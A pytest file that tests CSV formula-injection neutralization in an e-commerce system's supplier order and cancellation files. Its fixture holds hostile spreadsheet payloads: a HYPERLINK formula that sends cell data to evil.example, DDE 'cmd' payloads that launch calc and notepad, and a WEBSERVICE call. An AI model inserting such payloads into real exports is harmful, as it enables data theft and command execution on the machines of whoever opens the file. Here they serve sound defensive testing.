"""Security review (issue 11, item 6): shopper text in a supplier's CSV files must not run as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'``
(OWASP, "CSV Injection") when it carries text from the order; our own cells (ids, SKUs, quantities,
costs, constants) are written as they are. ``order_file.neutralize_formulas: false`` turns it off.
"""

from __future__ import annotations

import csv
import io

import pytest

from orderflow.models import Address, AllocatedLine, Customer, Order, OrderLine, Shipment
from orderflow.suppliers.config import OrderColumn, OrderFileFormat, SftpSettings, SupplierConfig
from orderflow.suppliers.files import cancel_file, order_file

FP = "SHA256:" + "A" * 43

#: What a shopper (or a sales channel passing the shopper's text on) may type into the address form.
HOSTILE = {
    "ship_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "ship_company": "+cmd|' /C calc'!A0",
    "ship_address1": "-2+3+cmd|' /C notepad'!'A1'",
    "ship_address2": "@SUM(1+9)*cmd|' /C calc'!A0",
    "ship_city": "\t=1+1",
    "ship_state": "\r=1+1",
    "ship_phone": "+1 555 0100",
}


def config(**order_file_settings) -> SupplierConfig:
    return SupplierConfig(
        warehouse_id="acme", sftp=SftpSettings(host="sftp.acme.example", username="u", host_key_fingerprint=FP),
        unit_costs={"LAMP": "18.40"},
        order_file=OrderFileFormat(**order_file_settings))


def hostile_order() -> Order:
    # Built as the stored order is read back (Order is a storage model: no whitespace stripping), so the
    # tab / carriage-return cases reach the file the way a channel's or an old stored order's text would.
    address = Address.model_construct(
        name=HOSTILE["ship_name"], company=HOSTILE["ship_company"], line1=HOSTILE["ship_address1"],
        line2=HOSTILE["ship_address2"], city=HOSTILE["ship_city"], region=HOSTILE["ship_state"],
        postal_code="-10001", country="US", phone=HOSTILE["ship_phone"])
    order = Order(order_id="ord_0001", created_at="2026-11-26T06:03:07.123Z", shipping_address=address,
                  customer=Customer.model_construct(name=None, email="=1+1@example.com"),
                  lines=[OrderLine(line_no=1, sku="LAMP", quantity=2, unit_price="39.00")])
    order.shipments = [Shipment(shipment_id="ord_0001-1", warehouse_id="acme", method="dropship", lines=[
        AllocatedLine(line_no=1, sku="LAMP", quantity=2, warehouse_id="acme")])]
    return order


def table(data: bytes) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_formula_cells_from_the_shopper_are_neutralized_in_the_order_file():
    order = hostile_order()
    [row] = table(order_file(config(), order, order.shipments[0]))
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value, field
    assert row["ship_postal_code"] == "'-10001"
    assert row["ship_email"] == "'=1+1@example.com"
    # our own cells are left alone
    assert (row["po_number"], row["order_number"], row["sku"], row["quantity"], row["unit_cost"],
            row["ship_country"], row["line_number"]) == ("ord_0001-1", "ord_0001", "LAMP", "2", "18.40", "US", "1")
    # no cell of the file starts like a formula any more
    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_seller_constants_and_safe_text_are_written_as_they_are():
    order = hostile_order()
    order.shipping_address = Address(name="Ada Lovelace", line1="1 Main St", city="Brooklyn", postal_code="11201",
                                     country="US", phone="555 0100")
    cfg = config(columns=[OrderColumn(header="Name", field="ship_name"), OrderColumn(header="Phone", field="ship_phone"),
                          OrderColumn(header="Qty", field="quantity"), OrderColumn(header="Flag", value="-1")])
    [row] = table(order_file(cfg, order, order.shipments[0]))
    assert row == {"Name": "Ada Lovelace", "Phone": "555 0100", "Qty": "2", "Flag": "-1"}


def test_the_cancellation_reason_is_neutralized():
    order = hostile_order()
    [row] = table(cancel_file(config(), order, order.shipments[0], reason="=WEBSERVICE(\"http://evil.example\")",
                              cancelled_at="2026-11-27T00:00:00.000Z"))
    assert row["reason"] == "'=WEBSERVICE(\"http://evil.example\")"
    assert row["action"] == "CANCEL" and row["po_number"] == "ord_0001-1"


def test_a_supplier_that_turned_it_off_gets_the_text_unchanged():
    order = hostile_order()
    cfg = config(neutralize_formulas=False)
    assert cfg.order_file.neutralize_formulas is False
    [row] = table(order_file(cfg, order, order.shipments[0]))
    for field, value in HOSTILE.items():
        assert row[field] == value, field
    assert row["ship_postal_code"] == "-10001" and row["ship_email"] == "=1+1@example.com"
    [cancel] = table(cancel_file(cfg, order, order.shipments[0], reason="=1+1",
                                 cancelled_at="2026-11-27T00:00:00.000Z"))
    assert cancel["reason"] == "=1+1"


def test_neutralizing_is_on_by_default_and_kept_in_the_stored_configuration():
    cfg = config()
    assert cfg.order_file.neutralize_formulas is True
    stored = SupplierConfig.model_validate(cfg.public())
    assert stored.order_file.neutralize_formulas is True
    assert SupplierConfig.model_validate({**cfg.public(), "order_file": {
        **cfg.public()["order_file"], "neutralize_formulas": False}}).order_file.neutralize_formulas is False


@pytest.mark.parametrize("value", ["Ada", "O'Brien", "  spaced", "1 Main St", "", "a=b", "x-y"])
def test_ordinary_text_is_not_touched(value):
    from orderflow.suppliers.files import neutralize

    assert neutralize(value) == value
